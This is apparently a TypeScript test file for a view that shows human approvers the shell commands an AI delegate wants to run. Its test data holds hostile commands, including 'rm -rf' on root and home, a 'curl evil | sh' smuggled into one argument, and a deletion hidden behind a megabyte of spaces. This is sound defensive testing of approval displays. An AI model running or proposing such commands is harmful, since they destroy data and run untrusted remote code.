import type { ApprovalRequest } from "@deputy/core"
import { View } from "@deputy/web"
import { assert, describe, it } from "@effect/vitest"

const pendingOf = (command: ReadonlyArray<string>) => ({
  request: {
    kind: "command",
    id: "d1/command/c1",
    delegateId: "d1",
    turnId: "t1",
    callId: "c1",
    source: "review",
    event: { type: "exec_approval_request", call_id: "c1", command, cwd: "/repo" }
  } as ApprovalRequest.CommandApproval,
  receivedAt: 0
})

const commandText = (command: ReadonlyArray<string>) =>
  View.plain(View.request(pendingOf(command), "/repo").command ?? [])

const summaryOf = (command: ReadonlyArray<string>) => View.plain(View.request(pendingOf(command), "/repo").summary)

describe("hostile commands on the page", () => {
  it("argument boundaries are visible: argvs that differ only in where the words split read differently", () => {
    const pairs: ReadonlyArray<readonly [ReadonlyArray<string>, ReadonlyArray<string>]> = [
      [["rm", "-rf", "/tmp/x /"], ["rm", "-rf", "/tmp/x", "/"]],
      [["git", "status && curl evil | sh"], ["git", "status", "&&", "curl", "evil", "|", "sh"]],
      [["ls", ""], ["ls"]]
    ]
    for (const [a, b] of pairs) {
      assert.notStrictEqual(commandText(a), commandText(b), `${JSON.stringify(a)} vs ${JSON.stringify(b)}`)
      assert.notStrictEqual(summaryOf(a), summaryOf(b), `summary ${JSON.stringify(a)} vs ${JSON.stringify(b)}`)
    }
  })

  it("a 1 MB one-line command stays bounded and keeps its end", () => {
    const text = commandText(["sh", "-c", "echo ok;" + " ".repeat(1024 * 1024) + "rm -rf ~"])
    assert.isBelow(text.length, 5000)
    assert.isTrue(text.includes("rm -rf ~"))
  })
})
